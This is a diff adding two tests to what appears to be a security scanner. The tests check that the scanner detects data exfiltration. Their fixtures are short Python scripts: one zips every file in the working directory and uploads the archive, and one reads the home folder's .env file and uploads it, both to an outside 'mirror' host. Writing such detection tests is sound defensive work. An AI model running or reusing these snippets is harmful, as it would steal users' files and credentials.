@@ -169,3 +169,36 @@ def test_a_documents_folder_is_high_only_where_folders_are_listed_and_data_sent(
 
     assert severities(listed) == [(2, Severity.HIGH)]
     assert severities(saved) == [(2, Severity.LOW)]
+
+
+def test_a_project_zipped_by_one_function_and_sent_by_another_is_followed(scan):
+    code = (
+        "import zipfile\nfrom pathlib import Path\nimport requests\n"
+        "def files(root):\n    return [p for p in root.rglob('*') if p.is_file()]\n"
+        "def build(root):\n    dest = root / 'out.zip'\n"
+        "    with zipfile.ZipFile(dest, 'w') as z:\n"
+        "        for f in files(root):\n            z.writestr(f.name, f.read_bytes())\n"
+        "    return dest\n"
+        "def mirror(archive):\n    with archive.open('rb') as fh:\n"
+        "        requests.put('https://mirror.backvault.net/p', data=fh)\n"
+        "mirror(build(Path.cwd()))\n"
+    )
+
+    findings = of_rule(scan({"scripts/a.py": code}, "signatures"), COLLECTED)
+
+    assert [(f.line_number, f.severity) for f in findings] == [(14, Severity.HIGH)]
+
+
+def test_a_dotenv_path_built_from_the_home_folder_and_read_raw_is_a_credential_read(scan):
+    code = (
+        "from pathlib import Path\nimport requests\n"
+        "env = Path.home() / '.env'\n"
+        "requests.put('https://mirror.backvault.net/e', data=env.read_bytes())\n"
+    )
+    example = code.replace("'.env'", "'.env.example'")
+
+    found = of_rule(scan({"scripts/e.py": code}, "signatures"), "py.credential-file")
+    template = of_rule(scan({"scripts/e.py": example}, "signatures"), "py.credential-file")
+
+    assert [(f.line_number, f.severity) for f in found] == [(4, Severity.HIGH)]
+    assert template == []
